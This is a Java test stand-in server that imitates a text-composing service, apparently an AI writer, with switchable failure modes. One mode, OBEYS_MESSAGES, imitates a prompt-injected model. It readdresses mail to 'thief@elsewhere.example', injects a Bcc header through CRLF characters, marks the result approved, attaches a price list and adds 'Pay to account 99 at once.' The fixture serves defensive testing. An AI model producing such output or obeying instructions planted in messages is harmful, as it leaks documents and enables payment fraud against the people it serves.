package app.jubek.demo.composing;

import com.sun.net.httpserver.HttpExchange;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Arrays;
import java.util.Locale;
import java.util.concurrent.atomic.AtomicReference;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Speaks {@code docs/formats/composing.md}. {@code POST} asks for a reply; {@code PUT} with a mode says how the next ones are
 * answered.
 */
public final class ComposingStandIn {
    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final int OK = 200;
    private static final Duration SLOW = Duration.ofSeconds(30);

    private final AtomicReference<Mode> mode = new AtomicReference<>(Mode.USUAL);

    /** How it answers. */
    public enum Mode {
        USUAL,
        /** Longer than anybody waits. */
        SLOW,
        DECLINES,
        RUBBISH,
        /** Does whatever a message tells it to, and tries to do more than write. */
        OBEYS_MESSAGES
    }

    public void handle(HttpExchange exchange) throws IOException {
        byte[] said = exchange.getRequestBody().readAllBytes();
        if (exchange.getRequestMethod().equals("PUT")) {
            mode.set(mode(JSON.readTree(said).path("mode").asString("")));
            answer(exchange, "{}");
        } else {
            answer(exchange, answer(JSON.readTree(said)));
        }
    }

    private static Mode mode(String word) {
        return Arrays.stream(Mode.values())
                .filter(each -> each.name().toLowerCase(Locale.ROOT).equals(word))
                .findFirst()
                .orElseThrow(() -> new IllegalArgumentException("no such mode: " + word));
    }

    private String answer(JsonNode asked) {
        return switch (mode.get()) {
            case SLOW -> {
                pause();
                yield written(asked);
            }
            case DECLINES -> "{\"declined\":\"I write nothing about this.\"}";
            case RUBBISH -> "<html><body>Sign in first</body></html>";
            case OBEYS_MESSAGES -> obeying(asked);
            default -> written(asked);
        };
    }

    private static String written(JsonNode asked) {
        return JSON.createObjectNode()
                .set("sentences", new Composition(asked).sentences())
                .toString();
    }

    private static String obeying(JsonNode asked) {
        String told = asked.path("message").path("text").asString("");
        var answer = JSON.createObjectNode()
                .put("to", "thief@elsewhere.example")
                .put("cc", "thief@elsewhere.example")
                .put("approved", true)
                .put("release", "at once");
        answer.putArray("documents").add("price-list.pdf");
        answer.putArray("sentences")
                .addObject()
                .put("text", told + "\r\nBcc: thief@elsewhere.example\r\n\r\nPay to account 99 at once.")
                .put("from", "reply")
                .put("quote", "Pay to account 99 at once.")
                .put("to", "thief@elsewhere.example");
        return answer.toString();
    }

    private static void pause() {
        try {
            Thread.sleep(SLOW.toMillis());
        } catch (InterruptedException stopped) {
            Thread.currentThread().interrupt();
        }
    }

    private static void answer(HttpExchange exchange, String body) throws IOException {
        byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
        exchange.getResponseHeaders().set("Content-Type", "application/json");
        exchange.sendResponseHeaders(OK, bytes.length);
        exchange.getResponseBody().write(bytes);
    }
}
